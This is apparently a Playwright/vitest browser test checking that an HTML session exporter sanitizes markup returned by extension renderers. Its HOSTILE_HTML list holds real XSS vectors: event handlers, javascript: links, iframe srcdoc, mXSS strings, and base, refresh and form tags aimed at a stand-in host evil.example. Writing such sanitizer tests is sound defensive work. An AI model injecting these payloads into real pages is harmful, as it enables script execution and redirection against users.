/// <reference lib="dom" />
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { RenderCustomMessage } from "../src/custom-message-renderer.js";
import { exportSessionToHtml } from "../src/export-html.js";
import type { SessionSnapshot, SessionSnapshotEntry } from "../src/session-snapshot.js";
import {
  ARTIFACTS,
  finishWatched,
  launchChromium,
  openWatched,
  SKIP_BROWSER,
  saveArtifact,
} from "./browser.js";

/** Markup an extension's renderer might return, each trying to run or load something. */
const HOSTILE_HTML = [
  '<p>Plan: <b onmouseover="window.__pwned=\'hover\'" style="position:fixed;inset:0">bold</b></p>',
  "<script>window.__pwned='script'</script>",
  "<img src=x onerror=\"window.__pwned='img'\">",
  "<svg onload=\"window.__pwned='svg'\"><script>window.__pwned='svg-script'</script></svg>",
  "<a href=\"javascript:window.__pwned='js-link'\">js link</a>",
  '<a href=" JaVaScRiPt:window.__pwned=1">spaced js link</a>',
  '<a href="https://example.com/docs" onclick="window.__pwned=\'click\'">safe link</a>',
  "<iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\"></iframe>",
  '<form action="https://evil.example/"><input name="q" value="typed"><button>send</button></form>',
  "<details open ontoggle=\"window.__pwned='toggle'\"><summary>more</summary>inside</details>",
  '<table><tr><td colspan="2" onclick="window.__pwned=\'td\'">cell</td></tr></table>',
  "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  `${"<div>".repeat(400)}deep${"</div>".repeat(400)}`,
  // Last: these leave the parser inside foreign or raw-text content, swallowing what follows.
  "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned='noscript'>\"></noscript>",
  "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='mxss'\">",
].join("\n");

const t = (s: number) => new Date(Date.UTC(2026, 0, 1, 0, 0, s)).toISOString();

function custom(id: string, parentId: string | null, customType: string, display = true) {
  return {
    type: "custom_message",
    id,
    parentId,
    timestamp: t(Number(id.slice(1)) || 1),
    customType,
    content: `raw content of ${customType}`,
    display,
    details: { todos: ["write tests"] },
  } as SessionSnapshotEntry;
}

const snapshot: SessionSnapshot = {
  header: { id: "rendered", timestamp: t(0) },
  leafId: "m4",
  entries: [
    custom("m1", null, "hostile-card"),
    custom("m2", "m1", "todo-list"),
    custom("m3", "m2", "secret-note", false),
    custom("m4", "m3", "unrendered"),
  ],
};

const calls: string[] = [];
const render: RenderCustomMessage = (message) => {
  calls.push(message.customType);
  if (message.customType === "hostile-card") return { html: HOSTILE_HTML, by: "card.ts" };
  if (message.customType === "todo-list")
    return { text: "[ ] write tests\n<b>not bold</b>", by: "todo-list.ts" };
  if (message.customType === "secret-note") return { text: "SECRET rendered" };
  return undefined;
};

describe.skipIf(SKIP_BROWSER)("custom messages rendered by extensions, in chromium", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
  });

  it("keeps a safe subset of renderer HTML, shows text literally, hides display:false, and runs nothing", async () => {
    const html = exportSessionToHtml(snapshot, { renderCustomMessage: render });
    expect(calls).toEqual(["hostile-card", "todo-list", "unrendered"]);
    expect(html).not.toContain("SECRET rendered");
    const watched = await openWatched(browser, saveArtifact("rendered-messages.html", html));
    const page = watched.page;
    await page.click('button.filter[data-filter="all"]');
    const card = page.locator('article.entry[data-id="m1"] .rendered-message');
    await card.waitFor({ timeout: 5000 });
    await page.locator('article.entry[data-id="m1"] .rendered-message b').hover({ timeout: 5000 });
    await page.locator('article.entry[data-id="m1"] .rendered-message td').click({ timeout: 5000 });
    await page
      .locator('article.entry[data-id="m1"] .rendered-message summary')
      .click({ timeout: 5000 });
    expect(
      await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned),
    ).toBeUndefined();
    // Only allowlisted elements, no attribute but the allowlisted ones, safe links only.
    const report = await card.evaluate((box) => {
      const tags = new Set<string>();
      const attributes = new Set<string>();
      for (const node of Array.from(box.querySelectorAll("*"))) {
        tags.add(node.localName);
        for (const attribute of Array.from(node.attributes)) attributes.add(attribute.name);
      }
      return {
        tags: [...tags].sort(),
        attributes: [...attributes].sort(),
        hrefs: Array.from(box.querySelectorAll("a[href]")).map((a) => a.getAttribute("href")),
        text: box.textContent ?? "",
      };
    });
    for (const tag of [
      "script",
      "img",
      "svg",
      "iframe",
      "style",
      "form",
      "input",
      "button",
      "link",
      "base",
      "meta",
      "math",
      "noscript",
    ]) {
      expect(report.tags).not.toContain(tag);
    }
    expect(report.tags).toEqual(expect.arrayContaining(["b", "p", "a", "table", "td", "details"]));
    expect(
      report.attributes.filter(
        (name) => !["href", "target", "rel", "colspan", "class", "open"].includes(name),
      ),
    ).toEqual([]);
    expect(report.hrefs).toEqual(["https://example.com/docs"]);
    expect(report.text).toContain("bold");
    expect(report.text).toContain("js link");
    expect(report.text).toContain("safe link");
    expect(report.text).toContain("cell");
    expect(report.text).toContain("deep");
    expect(report.text).toContain("Shown by card.ts");
    // The page itself is untouched: body visible, no base or refresh took effect.
    expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe("none");
    expect(await page.evaluate(() => document.baseURI)).toMatch(/^file:/);
    // Text renderings are text: markup in them is shown literally.
    const todo = page.locator('article.entry[data-id="m2"] .rendered-message pre.plain');
    expect(await todo.textContent()).toBe("[ ] write tests\n<b>not bold</b>");
    expect(await page.locator('article.entry[data-id="m2"] .rendered-message b').count()).toBe(0);
    // The raw content is still there, folded away.
    expect(
      await page.locator('article.entry[data-id="m2"] details.details-content').textContent(),
    ).toContain("raw content of todo-list");
    // display:false: never rendered, shown as hidden context.
    const hidden = page.locator('article.entry[data-id="m3"]');
    expect(await hidden.locator(".rendered-message").count()).toBe(0);
    expect(await hidden.textContent()).toContain("Hidden from the user");
    expect(await page.locator("main").textContent()).not.toContain("SECRET rendered");
    // No renderer result: the default view.
    const plain = page.locator('article.entry[data-id="m4"]');
    expect(await plain.locator(".rendered-message").count()).toBe(0);
    expect(await plain.textContent()).toContain("raw content of unrendered");
    await page.screenshot({ path: `${ARTIFACTS}rendered-messages.png`, fullPage: true });
    await finishWatched(watched);
  });
});
